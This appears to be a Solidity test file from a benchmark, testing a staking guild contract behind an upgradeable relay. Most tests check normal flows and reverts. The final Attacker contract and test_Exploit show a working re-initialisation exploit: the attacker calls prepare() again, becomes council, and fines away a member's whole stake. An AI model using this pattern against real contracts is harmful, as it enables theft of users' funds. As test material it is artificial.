// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "./TernGuild.sol";

// assay-canary-92328a99-6592-469c-aecb-467d96933a6c

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

/// A stake that can be paid in and out, at times.
contract Sieve is StakeToken {
    bool private moves;

    function open() external {
        moves = true;
    }

    function shut() external {
        moves = false;
    }

    function transfer(address, uint256) public returns (bool) {
        return moves;
    }

    function transferFrom(address, address, uint256) public returns (bool) {
        return moves;
    }
}

contract Token is StakeToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "balance or allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant KEEPER = address(0x4f1d22B7E06C61c20b0a9ea8e9d5b07E1C3A9B2c);
    address internal constant COUNCIL = address(0xC0C0);
    address internal constant SMITH = address(0x5417);
    uint256 internal constant START = 1658500000;

    Token internal token;
    TernGuild internal guild;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        TernGuild code = new TernGuild();
        bytes memory preparation = abi.encodeWithSelector(code.prepare.selector, address(token), COUNCIL, 7 days);
        guild = TernGuild(address(new TernRelay(KEEPER, address(code), preparation)));
        token.mint(SMITH, 18000000e18);
        vm.prank(SMITH);
        token.approve(address(guild), uint256(-1));
        vm.prank(SMITH);
        guild.stake(18000000e18);
        thief = new Attacker(guild, token);
    }

    function test_Regular() public {
        require(guild.council() == COUNCIL && guild.notice() == 7 days, "prepared");
        vm.prank(SMITH);
        guild.giveNotice(1000e18);
        vm.prank(SMITH);
        (bool ok,) = address(guild).call(abi.encodeWithSelector(guild.leave.selector));
        require(!ok, "at once");
        vm.prank(COUNCIL);
        guild.fine(SMITH, 50e18, "late");
        require(token.balanceOf(COUNCIL) == 50e18, "fined");
        (ok,) = address(guild).call(abi.encodeWithSelector(guild.fine.selector, SMITH, 1, ""));
        require(!ok, "by anyone");
        vm.warp(START + 8 days);
        vm.prank(SMITH);
        guild.leave();
        require(token.balanceOf(SMITH) == 1000e18, "left");
        require(guild.totalStake() == 18000000e18 - 1050e18, "books");

        TernGuild next = new TernGuild();
        (ok,) = address(guild).call(abi.encodeWithSelector(bytes4(keccak256("changeCode(address)")), address(next)));
        require(!ok, "not the keeper");
        vm.prank(KEEPER);
        TernRelay(address(uint160(address(guild)))).changeCode(address(next));
        require(guild.council() == COUNCIL, "after a change of code");
        vm.prank(COUNCIL);
        guild.changeCouncil(SMITH);
        require(guild.council() == SMITH, "changed");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesCodeThatIsNone() public {
        bytes memory nothing;
        vm.expectRevert("relay: no code");
        new TernRelay(KEEPER, SMITH, nothing);
        vm.prank(KEEPER);
        vm.expectRevert("relay: no code");
        TernRelay(address(uint160(address(guild)))).changeCode(SMITH);
    }

    function test_RefusesLongNotices() public {
        TernGuild code = new TernGuild();
        vm.expectRevert("guild: notice too long");
        code.prepare(token, COUNCIL, 60 days + 1);
        bytes memory preparation = abi.encodeWithSelector(code.prepare.selector, address(token), COUNCIL, 60 days + 1);
        vm.expectRevert("relay: not prepared");
        new TernRelay(KEEPER, address(code), preparation);
    }

    function test_RefusesACouncilByStrangers() public {
        vm.prank(SMITH);
        vm.expectRevert("guild: not the council");
        guild.changeCouncil(SMITH);
    }

    function test_RefusesToHaveNoCouncil() public {
        vm.prank(COUNCIL);
        vm.expectRevert("guild: no council");
        guild.changeCouncil(address(0));
    }

    function test_RefusesMoreThanIsStaked() public {
        vm.prank(SMITH);
        vm.expectRevert("guild: more than staked");
        guild.giveNotice(18000000e18 + 1);
        vm.prank(COUNCIL);
        vm.expectRevert("guild: more than staked");
        guild.fine(SMITH, 18000000e18 + 1, "all and more");
    }

    function test_RefusesToLeaveWithoutNotice() public {
        vm.prank(SMITH);
        vm.expectRevert("guild: still bound");
        guild.leave();
    }

    function test_RefusesStakesThatDoNotMove() public {
        Sieve sieve = new Sieve();
        TernGuild other = new TernGuild();
        other.prepare(sieve, address(this), 0);
        vm.expectRevert("guild: not staked");
        other.stake(10);
        sieve.open();
        other.stake(10);
        vm.expectRevert("guild: too much");
        other.stake(uint256(-1));
        other.giveNotice(5);
        sieve.shut();
        vm.expectRevert("guild: not paid");
        other.leave();
        vm.expectRevert("guild: not paid");
        other.fine(address(this), 1, "");
    }

    function exploit() public {
        thief.run();
        thief.collect(SMITH);
    }

    function test_Exploit() public {
        exploit();
        require(guild.council() == address(thief), "council");
        require(token.balanceOf(address(thief)) == 18000000e18, "stakes");
    }

    function target() public view returns (address) {
        return address(guild);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Prepares the guild for a second time.
contract Attacker {
    TernGuild internal guild;
    Token internal token;

    constructor(TernGuild guild_, Token token_) public {
        guild = guild_;
        token = token_;
    }

    function run() external {
        guild.prepare(token, address(this), 0);
    }

    function collect(address from) external {
        (uint256 amount,,) = guild.members(from);
        guild.fine(from, amount, "");
    }
}
